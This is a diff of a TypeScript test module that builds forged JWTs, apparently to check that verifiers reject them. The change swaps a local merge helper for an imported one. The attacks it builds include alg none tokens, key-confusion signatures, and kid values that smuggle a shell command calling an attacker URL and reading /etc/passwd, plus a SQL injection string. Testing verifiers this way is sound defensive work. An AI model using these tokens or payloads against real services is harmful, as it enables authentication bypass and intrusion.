@@ -11,6 +11,7 @@
 import { constants, createHash, createHmac, createPublicKey, generateKeyPairSync, KeyObject, randomUUID, sign } from 'node:crypto';
 import { deflateRawSync } from 'node:zlib';
 import { CompactEncrypt, importJWK, type JWK } from 'jose';
+import { mergeMembers } from '../support/merge-members.ts';
 
 /**
  * The kinds of JWT a relying party or resource server accepts, the rows of the attack matrix.
@@ -308,7 +309,7 @@ export function createAttackContext(init: AttackContextInit): AttackContext {
     header: () => withoutUndefined({ alg: init.signingKey.alg, kid: init.signingKey.kid, typ }),
     sibling: (type) => ({ typ: TOKEN_TYP[type], claims: type === init.tokenType ? claims() : standardClaims(type, about) }),
     mint: (over = {}, header = {}, key = init.signingKey) =>
-      Promise.resolve(ctx.sign(merge(withoutUndefined({ alg: key.alg, kid: key.kid, typ }), header), merge(claims(), over), key, key.alg)),
+      Promise.resolve(ctx.sign(mergeMembers(withoutUndefined({ alg: key.alg, kid: key.kid, typ }), header), mergeMembers(claims(), over), key, key.alg)),
     sign: (header, payload, key, alg) => compactJws(header, payload, key, alg),
   };
   return ctx;
@@ -361,16 +362,6 @@ function segment(value: Record<string, unknown> | string | Uint8Array): string {
 
 function withoutUndefined(value: Record<string, unknown>): Record<string, unknown> {
   return Object.fromEntries(Object.entries(value).filter(([, v]) => v !== undefined));
-}
-
-/** `base` with `over` merged over it; a member set to undefined in `over` is removed. */
-function merge(base: Record<string, unknown>, over: Record<string, unknown>): Record<string, unknown> {
-  const out: Record<string, unknown> = { ...base };
-  for (const [name, value] of Object.entries(over)) {
-    if (value === undefined) delete out[name];
-    else out[name] = value;
-  }
-  return out;
 }
 
 /** JSON text of `value` with raw `"name":value` members appended (duplicates, out-of-range numbers). */
@@ -517,7 +508,7 @@ function confusion(id: string, source: TokenType, name: string): JwtAttack {
         { label: `${source} with this verifier's audience added`, token: ctx.sign(header, dressed, ctx.signingKey, ctx.signingKey.alg) },
       ];
       // An issuer that sets no typ on this kind (Keycloak, Auth0 and Entra ID set none or "JWT" on access tokens).
-      if (sibling.typ !== undefined) out.push({ label: `${source} with the audience added and no typ`, token: ctx.sign(merge(header, { typ: undefined }), dressed, ctx.signingKey, ctx.signingKey.alg) });
+      if (sibling.typ !== undefined) out.push({ label: `${source} with the audience added and no typ`, token: ctx.sign(mergeMembers(header, { typ: undefined }), dressed, ctx.signingKey, ctx.signingKey.alg) });
       return Promise.resolve(out);
     },
   };
@@ -526,7 +517,7 @@ function confusion(id: string, source: TokenType, name: string): JwtAttack {
 /** Variants of one claim replaced by each of `values` (raw JSON text), in validly signed tokens. */
 function rawClaimVariants(ctx: AttackContext, claim: string, values: readonly string[], extra: Record<string, unknown> = {}): AttackToken[] {
   return values.map((value) => {
-    const claims = merge(merge(ctx.claims(), extra), { [claim]: undefined });
+    const claims = mergeMembers(mergeMembers(ctx.claims(), extra), { [claim]: undefined });
     return { label: `${claim}: ${value}`, token: ctx.sign(ctx.header(), jsonWith(claims, `${JSON.stringify(claim)}:${value}`), ctx.signingKey, ctx.signingKey.alg) };
   });
 }
@@ -570,8 +561,8 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     rule: 'RFC 8725 §3.1, §3.2: never accept "none"; OIDC Core §3.1.3.7 step 6–7; RFC 9068 §4.',
     expect: 'refused',
     build(ctx) {
-      const out = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({ label: `alg ${JSON.stringify(alg)}`, token: unsigned(merge(ctx.header(), { alg }), ctx.claims()) }));
-      out.push({ label: 'alg "none", no kid', token: unsigned(merge(ctx.header(), { alg: 'none', kid: undefined }), ctx.claims()) });
+      const out = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({ label: `alg ${JSON.stringify(alg)}`, token: unsigned(mergeMembers(ctx.header(), { alg }), ctx.claims()) }));
+      out.push({ label: 'alg "none", no kid', token: unsigned(mergeMembers(ctx.header(), { alg: 'none', kid: undefined }), ctx.claims()) });
       return Promise.resolve(out);
     },
   },
@@ -583,8 +574,8 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     async build(ctx) {
       const [, , sig] = parts(await ctx.mint());
       return [
-        { label: 'alg none, the signature of a valid token', token: unsigned(merge(ctx.header(), { alg: 'none' }), ctx.claims(), sig) },
-        { label: 'alg None, the signature of a valid token', token: unsigned(merge(ctx.header(), { alg: 'None' }), ctx.claims(), sig) },
+        { label: 'alg none, the signature of a valid token', token: unsigned(mergeMembers(ctx.header(), { alg: 'none' }), ctx.claims(), sig) },
+        { label: 'alg None, the signature of a valid token', token: unsigned(mergeMembers(ctx.header(), { alg: 'None' }), ctx.claims(), sig) },
       ];
     },
   },
@@ -607,7 +598,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const [h, p] = parts(await ctx.mint());
       return [
         { label: 'header.payload (two segments)', token: `${h}.${p}` },
-        { label: 'alg none, header.payload (two segments)', token: `${segment(merge(ctx.header(), { alg: 'none' }))}.${p}` },
+        { label: 'alg none, header.payload (two segments)', token: `${segment(mergeMembers(ctx.header(), { alg: 'none' }))}.${p}` },
       ];
     },
   },
@@ -638,7 +629,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
         ['exp pushed a year ahead', { exp: nowSeconds() + 365 * 86400 }],
         ['a claim added (roles: admin)', { roles: ['admin'] }],
       ];
-      return edits.map(([label, over]) => ({ label, token: `${h}.${segment(merge(claims, over))}.${s}` }));
+      return edits.map(([label, over]) => ({ label, token: `${h}.${segment(mergeMembers(claims, over))}.${s}` }));
     },
   },
   {
@@ -657,11 +648,11 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
         ['PKCS#1 PEM', Buffer.from(pkcs1)],
         ['SPKI DER', pub.export({ type: 'spki', format: 'der' })],
       ];
-      const out: AttackToken[] = secrets.map(([label, secret]) => ({ label: `HS256, ${label}, kid of the RSA key`, token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: rsa.kid }), ctx.claims(), secret, 'HS256') }));
-      out.push({ label: 'HS256, SPKI PEM, no kid', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), Buffer.from(spki), 'HS256') });
+      const out: AttackToken[] = secrets.map(([label, secret]) => ({ label: `HS256, ${label}, kid of the RSA key`, token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: rsa.kid }), ctx.claims(), secret, 'HS256') }));
+      out.push({ label: 'HS256, SPKI PEM, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), Buffer.from(spki), 'HS256') });
       // The dangerous case: a JWKS whose keys name no algorithm or use (many providers publish such keys).
       const bare: KeySet = { keys: ctx.jwks.keys.map((k) => withoutUndefined({ ...k, alg: undefined, use: undefined, key_ops: undefined })) };
-      out.push({ label: 'HS256, SPKI PEM, kid of the RSA key, JWKS keys without alg and use', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: rsa.kid }), ctx.claims(), Buffer.from(spki), 'HS256'), jwks: bare });
+      out.push({ label: 'HS256, SPKI PEM, kid of the RSA key, JWKS keys without alg and use', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: rsa.kid }), ctx.claims(), Buffer.from(spki), 'HS256'), jwks: bare });
       return Promise.resolve(out);
     },
   },
@@ -674,13 +665,13 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const out: AttackToken[] = [];
       for (const key of ctx.publishedKeys) {
         const jwk = ctx.jwks.keys.find((k) => k.kid === key.kid) ?? key.publicJwk;
-        out.push({ label: `HS256, the published JWK of ${key.kid} as JSON`, token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: key.kid }), ctx.claims(), Buffer.from(JSON.stringify(jwk)), 'HS256') });
+        out.push({ label: `HS256, the published JWK of ${key.kid} as JSON`, token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: key.kid }), ctx.claims(), Buffer.from(JSON.stringify(jwk)), 'HS256') });
         const material = jwk.n ?? jwk.x;
         if (material !== undefined) {
-          out.push({ label: `HS256, the raw ${jwk.n === undefined ? 'x coordinate' : 'modulus'} of ${key.kid}`, token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: key.kid }), ctx.claims(), Buffer.from(material, 'base64url'), 'HS256') });
+          out.push({ label: `HS256, the raw ${jwk.n === undefined ? 'x coordinate' : 'modulus'} of ${key.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: key.kid }), ctx.claims(), Buffer.from(material, 'base64url'), 'HS256') });
         }
       }
-      out.push({ label: 'HS256, the whole JWKS as JSON', token: ctx.sign(merge(ctx.header(), { alg: 'HS256' }), ctx.claims(), Buffer.from(JSON.stringify(ctx.jwks)), 'HS256') });
+      out.push({ label: 'HS256, the whole JWKS as JSON', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256' }), ctx.claims(), Buffer.from(JSON.stringify(ctx.jwks)), 'HS256') });
       return Promise.resolve(out);
     },
   },
@@ -692,10 +683,10 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     build(ctx) {
       const empty = new Uint8Array(0);
       return Promise.resolve([
-        { label: 'HS256, kid of the signing key', token: ctx.sign(merge(ctx.header(), { alg: 'HS256' }), ctx.claims(), empty, 'HS256') },
-        { label: 'HS256, no kid', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), empty, 'HS256') },
-        { label: 'HS384', token: ctx.sign(merge(ctx.header(), { alg: 'HS384' }), ctx.claims(), empty, 'HS384') },
-        { label: 'HS512', token: ctx.sign(merge(ctx.header(), { alg: 'HS512' }), ctx.claims(), empty, 'HS512') },
+        { label: 'HS256, kid of the signing key', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256' }), ctx.claims(), empty, 'HS256') },
+        { label: 'HS256, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), empty, 'HS256') },
+        { label: 'HS384', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS384' }), ctx.claims(), empty, 'HS384') },
+        { label: 'HS512', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS512' }), ctx.claims(), empty, 'HS512') },
       ]);
     },
   },
@@ -708,9 +699,9 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       if (ctx.clientSecret === undefined || ctx.alg.startsWith('HS')) return Promise.resolve([]);
       const secret = Buffer.from(ctx.clientSecret);
       return Promise.resolve([
-        { label: 'HS256, kid of the signing key', token: ctx.sign(merge(ctx.header(), { alg: 'HS256' }), ctx.claims(), secret, 'HS256') },
-        { label: 'HS256, no kid', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), secret, 'HS256') },
-        { label: 'HS512, no kid', token: ctx.sign(merge(ctx.header(), { alg: 'HS512', kid: undefined }), ctx.claims(), secret, 'HS512') },
+        { label: 'HS256, kid of the signing key', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256' }), ctx.claims(), secret, 'HS256') },
+        { label: 'HS256, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), secret, 'HS256') },
+        { label: 'HS512, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS512', kid: undefined }), ctx.claims(), secret, 'HS512') },
       ]);
     },
   },
@@ -723,8 +714,8 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const secret = Buffer.from('a-symmetric-key-published-in-the-jwks-for-all-to-see');
       const oct: JWK = { kty: 'oct', k: b64u(secret), kid: 'published-oct', alg: 'HS256', use: 'sig' };
       return Promise.resolve([
-        { label: 'HS256 under the oct key\'s kid', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: 'published-oct' }), ctx.claims(), secret, 'HS256'), jwks: { keys: [...ctx.jwks.keys, oct] } },
-        { label: 'HS256, no kid, oct key without alg or use', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), secret, 'HS256'), jwks: { keys: [...ctx.jwks.keys, { kty: 'oct', k: b64u(secret) }] } },
+        { label: 'HS256 under the oct key\'s kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: 'published-oct' }), ctx.claims(), secret, 'HS256'), jwks: { keys: [...ctx.jwks.keys, oct] } },
+        { label: 'HS256, no kid, oct key without alg or use', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), secret, 'HS256'), jwks: { keys: [...ctx.jwks.keys, { kty: 'oct', k: b64u(secret) }] } },
       ]);
     },
   },
@@ -749,7 +740,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     build(ctx) {
       const rsa = rsaKeyOf(ctx);
       const algs = ['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512'].filter((alg) => alg !== rsa.alg);
-      return Promise.resolve(algs.map((alg) => ({ label: `${alg}, really signed with ${alg} by ${rsa.kid}`, token: ctx.sign(merge(ctx.header(), { alg, kid: rsa.kid }), ctx.claims(), rsa, alg) })));
+      return Promise.resolve(algs.map((alg) => ({ label: `${alg}, really signed with ${alg} by ${rsa.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg, kid: rsa.kid }), ctx.claims(), rsa, alg) })));
     },
   },
   {
@@ -760,7 +751,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     build(ctx) {
       const key = ctx.signingKey;
       const lies = ['RS256', 'RS384', 'PS256', 'ES256', 'EdDSA'].filter((alg) => alg !== key.alg);
-      return Promise.resolve(lies.map((alg) => ({ label: `header alg ${alg} over a ${key.alg} signature`, token: ctx.sign(merge(ctx.header(), { alg }), ctx.claims(), key, key.alg) })));
+      return Promise.resolve(lies.map((alg) => ({ label: `header alg ${alg} over a ${key.alg} signature`, token: ctx.sign(mergeMembers(ctx.header(), { alg }), ctx.claims(), key, key.alg) })));
     },
   },
   {
@@ -772,8 +763,8 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const out: AttackToken[] = [];
       for (const signer of ctx.publishedKeys) {
         for (const named of ctx.publishedKeys.filter((k) => k.kid !== signer.kid)) {
-          out.push({ label: `signed by ${signer.kid} (${signer.alg}), kid ${named.kid}`, token: ctx.sign(merge(ctx.header(), { alg: signer.alg, kid: named.kid }), ctx.claims(), signer, signer.alg) });
-          out.push({ label: `signed by ${signer.kid}, alg ${named.alg} and kid of ${named.kid}`, token: ctx.sign(merge(ctx.header(), { alg: named.alg, kid: named.kid }), ctx.claims(), signer, signer.alg) });
+          out.push({ label: `signed by ${signer.kid} (${signer.alg}), kid ${named.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: signer.alg, kid: named.kid }), ctx.claims(), signer, signer.alg) });
+          out.push({ label: `signed by ${signer.kid}, alg ${named.alg} and kid of ${named.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: named.alg, kid: named.kid }), ctx.claims(), signer, signer.alg) });
         }
       }
       return Promise.resolve(out);
@@ -786,7 +777,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     expect: 'refused',
     build(ctx) {
       const { rsa } = attackerMaterial();
-      return Promise.resolve(['made-up-1', 'made-up-2', randomUUID()].map((kid) => ({ label: `attacker key, kid ${kid}`, token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid }), ctx.claims(), rsa, rsa.alg) })));
+      return Promise.resolve(['made-up-1', 'made-up-2', randomUUID()].map((kid) => ({ label: `attacker key, kid ${kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid }), ctx.claims(), rsa, rsa.alg) })));
     },
   },
   {
@@ -799,7 +790,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const out: AttackToken[] = [];
       for (const real of ctx.publishedKeys) {
         const rogue = real.publicJwk.kty === 'EC' ? ec : rsa;
-        out.push({ label: `attacker ${rogue.alg} key, kid ${real.kid}`, token: ctx.sign(merge(ctx.header(), { alg: real.alg, kid: real.kid }), ctx.claims(), rogue, real.alg) });
+        out.push({ label: `attacker ${rogue.alg} key, kid ${real.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: real.alg, kid: real.kid }), ctx.claims(), rogue, real.alg) });
       }
       return Promise.resolve(out);
     },
@@ -812,10 +803,10 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     build(ctx) {
       const { rsa } = attackerMaterial();
       const real = ctx.signingKey.kid;
-      const withAttackerKey = (label: string, kid: unknown): AttackToken => ({ label, token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid }), ctx.claims(), rsa, rsa.alg) });
+      const withAttackerKey = (label: string, kid: unknown): AttackToken => ({ label, token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid }), ctx.claims(), rsa, rsa.alg) });
       return Promise.resolve([
-        { label: 'kid ../../../../../../dev/null, HS256 with an empty key', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: '../../../../../../dev/null' }), ctx.claims(), new Uint8Array(0), 'HS256') },
-        { label: 'kid SQL injection selecting a known secret, HS256 with that secret', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', kid: 'x\' UNION SELECT \'attacker-secret\' -- ' }), ctx.claims(), Buffer.from('attacker-secret'), 'HS256') },
+        { label: 'kid ../../../../../../dev/null, HS256 with an empty key', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: '../../../../../../dev/null' }), ctx.claims(), new Uint8Array(0), 'HS256') },
+        { label: 'kid SQL injection selecting a known secret, HS256 with that secret', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: 'x\' UNION SELECT \'attacker-secret\' -- ' }), ctx.claims(), Buffer.from('attacker-secret'), 'HS256') },
         withAttackerKey('kid $(curl attacker)|cat /etc/passwd', `$(curl ${ctx.attackerUrl})|cat /etc/passwd`),
         withAttackerKey('kid of the real key followed by NUL', `${real}\u0000attacker`),
         withAttackerKey('kid of the real key with a trailing space', `${real} `),
@@ -835,7 +826,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     expect: 'refused',
     build(ctx) {
       const { rsa } = attackerMaterial();
-      const sign = (label: string, header: Record<string, unknown>): AttackToken => ({ label, token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, ...header }), ctx.claims(), rsa, rsa.alg) });
+      const sign = (label: string, header: Record<string, unknown>): AttackToken => ({ label, token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, ...header }), ctx.claims(), rsa, rsa.alg) });
       return Promise.resolve([
         sign('jwk header, no kid', { kid: undefined, jwk: rsa.publicJwk }),
         sign('jwk header, kid of the real key', { kid: ctx.signingKey.kid, jwk: { ...rsa.publicJwk, kid: ctx.signingKey.kid } }),
@@ -852,9 +843,9 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const { rsa } = attackerMaterial();
       const jku = `${ctx.attackerUrl}/jwks`;
       return Promise.resolve([
-        { label: 'jku, the attacker\'s kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: rsa.kid, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
-        { label: 'jku, the real kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
-        { label: 'jku, no kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: undefined, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
+        { label: 'jku, the attacker\'s kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: rsa.kid, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
+        { label: 'jku, the real kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
+        { label: 'jku, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: undefined, jku }), ctx.claims(), rsa, rsa.alg), lures: [jku] },
       ]);
     },
   },
@@ -867,8 +858,8 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const { rsa } = attackerMaterial();
       const x5u = `${ctx.attackerUrl}/cert.pem`;
       return Promise.resolve([
-        { label: 'x5u, no kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: undefined, x5u }), ctx.claims(), rsa, rsa.alg), lures: [x5u] },
-        { label: 'x5u, the real kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, x5u }), ctx.claims(), rsa, rsa.alg), lures: [x5u] },
+        { label: 'x5u, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: undefined, x5u }), ctx.claims(), rsa, rsa.alg), lures: [x5u] },
+        { label: 'x5u, the real kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, x5u }), ctx.claims(), rsa, rsa.alg), lures: [x5u] },
       ]);
     },
   },
@@ -882,8 +873,8 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const x5c = [certificateDer.toString('base64')];
       const thumbprint = b64u(createHash('sha256').update(certificateDer).digest());
       return Promise.resolve([
-        { label: 'x5c, no kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: undefined, x5c }), ctx.claims(), rsa, rsa.alg) },
-        { label: 'x5c and x5t#S256, the real kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, x5c, 'x5t#S256': thumbprint }), ctx.claims(), rsa, rsa.alg) },
+        { label: 'x5c, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: undefined, x5c }), ctx.claims(), rsa, rsa.alg) },
+        { label: 'x5c and x5t#S256, the real kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid, x5c, 'x5t#S256': thumbprint }), ctx.claims(), rsa, rsa.alg) },
       ]);
     },
   },
@@ -893,7 +884,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     rule: 'RFC 7515 §4.1.11: a JWS whose crit names an extension the recipient does not understand, or is malformed, is invalid.',
     expect: 'refused',
     build(ctx) {
-      const sign = (label: string, header: Record<string, unknown>): AttackToken => ({ label, token: ctx.sign(merge(ctx.header(), header), ctx.claims(), ctx.signingKey, ctx.signingKey.alg) });
+      const sign = (label: string, header: Record<string, unknown>): AttackToken => ({ label, token: ctx.sign(mergeMembers(ctx.header(), header), ctx.claims(), ctx.signingKey, ctx.signingKey.alg) });
       return Promise.resolve([
         sign('crit ["urn:example:must-understand"] with that member', { crit: ['urn:example:must-understand'], 'urn:example:must-understand': true }),
         sign('crit naming a member that is absent', { crit: ['urn:example:absent'] }),
@@ -909,7 +900,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     rule: 'RFC 7797 §7: JWTs never use b64: false; RFC 7519 §7.2: the payload is base64url-encoded JSON.',
     expect: 'refused',
     build(ctx) {
-      const header = merge(ctx.header(), { b64: false, crit: ['b64'] });
+      const header = mergeMembers(ctx.header(), { b64: false, crit: ['b64'] });
       const claims = JSON.stringify(ctx.claims());
       const encodedHeader = segment(header);
       // Signing input of an RFC 7797 JWS: the header segment, a dot, the payload bytes as they are.
@@ -927,7 +918,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     rule: 'RFC 7516 §4.1.3: zip is for JWE only; RFC 8725 §3.6: avoid compression (and a bomb must not be inflated).',
     expect: 'refused',
     build(ctx) {
-      const header = merge(ctx.header(), { zip: 'DEF' });
+      const header = mergeMembers(ctx.header(), { zip: 'DEF' });
       const bomb = deflateRawSync(Buffer.from(jsonWith(ctx.claims(), `"padding":"${' '.repeat(1_000_000)}"`)));
       return Promise.resolve([
         { label: 'zip DEF, the valid claims deflated', token: ctx.sign(header, deflateRawSync(Buffer.from(JSON.stringify(ctx.claims()))), ctx.signingKey, ctx.signingKey.alg) },
@@ -952,7 +943,7 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const own = TOKEN_TYP[ctx.tokenType];
       const typs = ['secevent+jwt', 'dpop+jwt', 'JOSE', 'token-introspection+jwt', 'at+jwt', 'logout+jwt', 'application/at+jwt', 'application/logout+jwt']
         .filter((typ) => own === undefined || typ.replace(/^application\//, '') !== own);
-      return Promise.resolve(typs.map((typ) => ({ label: `typ ${typ}`, token: ctx.sign(merge(ctx.header(), { typ }), ctx.claims(), ctx.signingKey, ctx.signingKey.alg) })));
+      return Promise.resolve(typs.map((typ) => ({ label: `typ ${typ}`, token: ctx.sign(mergeMembers(ctx.header(), { typ }), ctx.claims(), ctx.signingKey, ctx.signingKey.alg) })));
     },
   },
   {
@@ -986,11 +977,11 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     expect: 'refused',
     async build(ctx) {
       const valid = await ctx.mint();
-      const inner = unsigned(merge(ctx.header(), { alg: 'none' }), merge(ctx.claims(), { sub: 'admin' }));
+      const inner = unsigned(mergeMembers(ctx.header(), { alg: 'none' }), mergeMembers(ctx.claims(), { sub: 'admin' }));
       return [
-        { label: 'outer alg none (cty JWT) around a valid token', token: unsigned(merge(ctx.header(), { alg: 'none', cty: 'JWT' }), valid) },
-        { label: 'outer validly signed (cty JWT) around an unsigned token with chosen claims', token: ctx.sign(merge(ctx.header(), { cty: 'JWT' }), inner, ctx.signingKey, ctx.signingKey.alg) },
-        { label: 'outer HS256 with an empty key (cty JWT) around a valid token', token: ctx.sign(merge(ctx.header(), { alg: 'HS256', cty: 'JWT' }), valid, new Uint8Array(0), 'HS256') },
+        { label: 'outer alg none (cty JWT) around a valid token', token: unsigned(mergeMembers(ctx.header(), { alg: 'none', cty: 'JWT' }), valid) },
+        { label: 'outer validly signed (cty JWT) around an unsigned token with chosen claims', token: ctx.sign(mergeMembers(ctx.header(), { cty: 'JWT' }), inner, ctx.signingKey, ctx.signingKey.alg) },
+        { label: 'outer HS256 with an empty key (cty JWT) around a valid token', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', cty: 'JWT' }), valid, new Uint8Array(0), 'HS256') },
       ];
     },
   },
@@ -1192,8 +1183,8 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     build(ctx) {
       const own = asList(ctx.claims()['aud']);
       return Promise.resolve([
-        { label: 'aud [ours, attacker]', token: ctx.sign(ctx.header(), merge(ctx.claims(), { aud: [...own, 'https://attacker.example'] }), ctx.signingKey, ctx.signingKey.alg) },
-        { label: 'aud [attacker, ours]', token: ctx.sign(ctx.header(), merge(ctx.claims(), { aud: ['https://attacker.example', ...own] }), ctx.signingKey, ctx.signingKey.alg) },
+        { label: 'aud [ours, attacker]', token: ctx.sign(ctx.header(), mergeMembers(ctx.claims(), { aud: [...own, 'https://attacker.example'] }), ctx.signingKey, ctx.signingKey.alg) },
+        { label: 'aud [attacker, ours]', token: ctx.sign(ctx.header(), mergeMembers(ctx.claims(), { aud: ['https://attacker.example', ...own] }), ctx.signingKey, ctx.signingKey.alg) },
       ]);
     },
   },
@@ -1319,10 +1310,10 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const header = ctx.header();
       const sign = (label: string, raw: string): AttackToken => ({ label, token: ctx.sign(raw, ctx.claims(), ctx.signingKey, ctx.signingKey.alg) });
       return Promise.resolve([
-        sign('no alg', JSON.stringify(merge(header, { alg: undefined }))),
-        sign('alg null', JSON.stringify(merge(header, { alg: null }))),
-        sign('alg an array', JSON.stringify(merge(header, { alg: [header['alg']] }))),
-        sign('alg an empty string', JSON.stringify(merge(header, { alg: '' }))),
+        sign('no alg', JSON.stringify(mergeMembers(header, { alg: undefined }))),
+        sign('alg null', JSON.stringify(mergeMembers(header, { alg: null }))),
+        sign('alg an array', JSON.stringify(mergeMembers(header, { alg: [header['alg']] }))),
+        sign('alg an empty string', JSON.stringify(mergeMembers(header, { alg: '' }))),
         sign('the header an array', JSON.stringify([header])),
         sign('the header truncated JSON', JSON.stringify(header).slice(0, -1)),
         sign('the header null', 'null'),
@@ -1338,9 +1329,9 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const { rsa } = attackerMaterial();
       const padding = 'A'.repeat(75_000); // ~100 KB once base64url-encoded
       return Promise.resolve([
-        { label: '100 KB, the attacker\'s key under the real kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg }), merge(ctx.claims(), { padding }), rsa, rsa.alg) },
-        { label: '100 KB, alg none', token: unsigned(merge(ctx.header(), { alg: 'none' }), merge(ctx.claims(), { padding })) },
-        { label: '100 KB of header, the attacker\'s key', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, padding }), ctx.claims(), rsa, rsa.alg) },
+        { label: '100 KB, the attacker\'s key under the real kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg }), mergeMembers(ctx.claims(), { padding }), rsa, rsa.alg) },
+        { label: '100 KB, alg none', token: unsigned(mergeMembers(ctx.header(), { alg: 'none' }), mergeMembers(ctx.claims(), { padding })) },
+        { label: '100 KB of header, the attacker\'s key', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, padding }), ctx.claims(), rsa, rsa.alg) },
       ]);
     },
   },
@@ -1351,11 +1342,11 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
     expect: 'refused',
     build(ctx) {
       const { rsa } = attackerMaterial();
-      const header = merge(ctx.header(), { alg: rsa.alg });
+      const header = mergeMembers(ctx.header(), { alg: rsa.alg });
       return Promise.resolve([
         { label: 'a claim 2 000 arrays deep, the attacker\'s key', token: ctx.sign(header, jsonWith(ctx.claims(), `"deep":${nested(2000)}`), rsa, rsa.alg) },
         { label: 'a header member 2 000 arrays deep, the attacker\'s key', token: ctx.sign(jsonWith(header, `"deep":${nested(2000)}`), ctx.claims(), rsa, rsa.alg) },
